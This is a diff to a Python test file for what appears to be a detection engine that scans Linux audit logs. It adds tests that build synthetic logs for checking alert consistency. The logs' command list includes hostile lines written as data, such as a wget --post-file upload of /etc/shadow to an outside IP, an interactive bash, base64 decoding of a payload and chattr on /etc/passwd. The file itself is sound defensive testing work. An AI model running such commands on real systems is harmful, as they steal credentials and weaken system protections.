@@ -4,12 +4,17 @@ rule can match: every scan here gives the same alerts, in the same order, with t
 
 from __future__ import annotations
 
+import os
+import random
+from itertools import zip_longest
 from pathlib import Path
 
 import pytest
 
 from taintsigma import scan_paths
 from taintsigma.evaluate.prefilter import regex_literals
+from taintsigma.logs import audit_fast, audit_scout
+from taintsigma.scan import run as scan_run
 from taintsigma.scan.routing import compile_for_scan
 
 REPO = Path(__file__).resolve().parent.parent
@@ -177,3 +182,150 @@ def test_enriched_and_interleaved_executions_alike(tmp_path: Path) -> None:
     found = same_alerts(tmp_path, first + failed + child)
     assert not any("base64" in str(fields) for _, _, fields in found)
     assert any("/usr/sbin/nginx" in str(fields) for _, _, fields in found)
+
+
+# Executions of these, some matching rules (base64 -d, wget --post-file, chattr -i, a shell's
+# children, sed on /etc, rsync), others only parents; an argument with a space is hex-encoded.
+COMMANDS = [
+    ("/usr/bin/ls", ["ls", "-la", "/var/log"]),
+    ("/usr/bin/base64", ["base64", "-d", "/tmp/payload"]),
+    ("/usr/bin/wget", ["wget", "--post-file=/etc/shadow", "http://203.0.113.5/"]),
+    ("/usr/bin/bash", ["bash", "-i"]),
+    ("/usr/bin/whoami", ["whoami"]),
+    ("/usr/bin/chattr", ["chattr", "-i", "/etc/passwd"]),
+    ("/usr/bin/sed", ["sed", "-n", "1p", "/etc/nginx/nginx.conf"]),
+    ("/usr/bin/rsync", ["rsync", "-a", "/srv/", "backup@host:/srv/"]),
+    ("/usr/bin/logger", ["logger", "backup finished"]),
+]
+
+
+def value(text: str) -> str:
+    return hexed(text) if " " in text else f'"{text}"'
+
+
+def mixed_log(seed: int, events: int) -> list[str]:
+    """An audit log of ``events`` events: executions (parents named by their children, pids
+    reused, a few failed, ENRICHED, with a node, interleaved with the next), file opens,
+    user-space records (one quoting a SYSCALL header) and lone PATH records."""
+    rng = random.Random(seed)
+    lines: list[str] = []
+    parents: list[int] = []
+    held: list[str] = []  # an execution to interleave with the next one
+    for serial in range(1000, 1000 + events):
+        draw, pid = rng.random(), rng.randrange(3000, 3300)
+        if draw < 0.55:
+            exe, args = rng.choice(COMMANDS)
+            ppid = rng.choice(parents) if parents and rng.random() < 0.7 else pid + 1
+            records = execution(serial, pid, value(exe), [value(a) for a in args], ppid=ppid)
+            variant = rng.random()
+            if variant < 0.03:  # failed: no EXECVE record
+                records[0] = records[0].replace("success=yes exit=0", "success=no exit=-2")
+                del records[1]
+            elif variant < 0.05:
+                records[0] += '\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="root"'
+            elif variant < 0.07:
+                records = [f"node=web{pid % 3} {record}" for record in records]
+            elif variant < 0.09 and not held:
+                held = records
+                continue
+            if held:
+                pairs = zip_longest(held, records)
+                records = [line for pair in pairs for line in pair if line is not None]
+                held = []
+            lines += records
+            parents.append(pid)
+        elif draw < 0.75:
+            lines += [
+                syscall(serial, pid, '"/usr/sbin/nginx"', number=257),
+                record("CWD", serial, 'cwd="/"'),
+                record("PATH", serial, f'item=0 name="{rng.choice(["/etc/hosts", "/etc/ld.so.preload"])}"'),
+                record("PROCTITLE", serial, "proctitle=" + hexed("nginx: worker")),
+            ]  # fmt: skip
+        elif draw < 0.95:
+            quoted = "type=SYSCALL msg=audit(1.1:1): " if rng.random() < 0.02 else ""
+            lines.append(record(
+                "USER_CMD", serial,
+                f"pid={pid} uid=1000 auid=1000 ses=4 msg='{quoted}cwd=\"/home/deploy\" "
+                f"cmd={hexed('systemctl restart app')} exe=\"/usr/bin/sudo\" res=success'",
+            ))  # fmt: skip
+        else:
+            lines.append(record("PATH", serial, 'item=0 name="/etc/ld.so.preload" nametype=CREATE'))
+    return lines + held
+
+
+def test_a_large_mixed_log_alerts_alike_region_by_region(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # small regions: many region boundaries, the scout process on, regions read in bulk and
+    # regions read line by line (ENRICHED, node, interleaved, a quoted SYSCALL header)
+    small_regions(monkeypatch)
+    used: dict[str, int] = {"scouted": 0, "bulk": 0, "lines": 0}
+    count_calls(monkeypatch, used)
+    found = same_alerts(tmp_path, mixed_log(seed=7, events=6000))
+    rules = {rule for rule, _, _ in found}
+    assert {BASE64, WGET, INTERACTIVE_BASH} <= rules
+    assert used["scouted"] > 10 and used["bulk"] > 10 and used["lines"] > 10
+
+
+def test_the_scout_process_failing_changes_nothing(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    small_regions(monkeypatch)
+    reader, scout = os.getpid(), audit_scout.scout
+    calls = []
+
+    def failing(records: object, lowered: bytes) -> object:
+        calls.append(1)
+        if os.getpid() != reader and len(calls) > 5:
+            raise MemoryError  # the scout process dies after five regions
+        return scout(records, lowered)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(audit_scout, "scout", failing)  # the scout process's
+    monkeypatch.setattr(audit_fast, "scout", failing)  # the reader's own
+    used: dict[str, int] = {"scouted": 0, "bulk": 0, "lines": 0}
+    count_calls(monkeypatch, used)
+    found = same_alerts(tmp_path, mixed_log(seed=11, events=3000))
+    assert {BASE64, WGET} <= {rule for rule, _, _ in found}
+    assert 0 < used["scouted"] <= 5 * 2  # two scans (fast and full): only the first reads it
+
+
+def count_calls(monkeypatch: pytest.MonkeyPatch, used: dict[str, int]) -> None:
+    """Count regions the scout process gave, and regions read in bulk or line by line."""
+    scouted = audit_scout.Scout.next
+    bulk, lines = audit_fast._AuditReader._bulk, audit_fast._AuditReader._lines
+
+    def next_(self: object, offset: int, size: int) -> object:
+        found = scouted(self, offset, size)  # type: ignore[arg-type]
+        used["scouted"] += found is not None
+        return found
+
+    def bulk_(*args: object) -> object:
+        used["bulk"] += 1
+        return bulk(*args)  # type: ignore[arg-type]
+
+    def lines_(*args: object) -> object:
+        used["lines"] += 1
+        return lines(*args)  # type: ignore[arg-type]
+
+    monkeypatch.setattr(audit_scout.Scout, "next", next_)
+    monkeypatch.setattr(audit_fast._AuditReader, "_bulk", bulk_)
+    monkeypatch.setattr(audit_fast._AuditReader, "_lines", lines_)
+
+
+def test_an_execve_record_regions_apart_from_its_syscall(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # base64's EXECVE record written regions before its (ENRICHED) SYSCALL record: reading
+    # every line joins them into one event, so bulk reading must not pass the EXECVE by
+    small_regions(monkeypatch)
+    late = execution(90, 9300, '"/usr/bin/base64"', ['"base64"', '"-d"'])
+    late[0] += '\x1dARCH=x86_64 SYSCALL=execve AUID="alice" UID="root"'
+    filler = [line for n in range(100) for line in execution(100 + n, 4000 + n, '"/usr/bin/ls"', ['"ls"'])]
+    found = same_alerts(tmp_path, [late[1], *filler, late[0], late[2], late[3]])
+    assert BASE64 in {rule for rule, _, _ in found}
+
+
+def small_regions(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Regions of about 4 KiB (the first one too), so a small log has many."""
+    monkeypatch.setattr(scan_run, "CHUNK_SIZE", 4096)
+    monkeypatch.setitem(audit_fast.scan_audit.__kwdefaults__, "chunk_size", 4096)
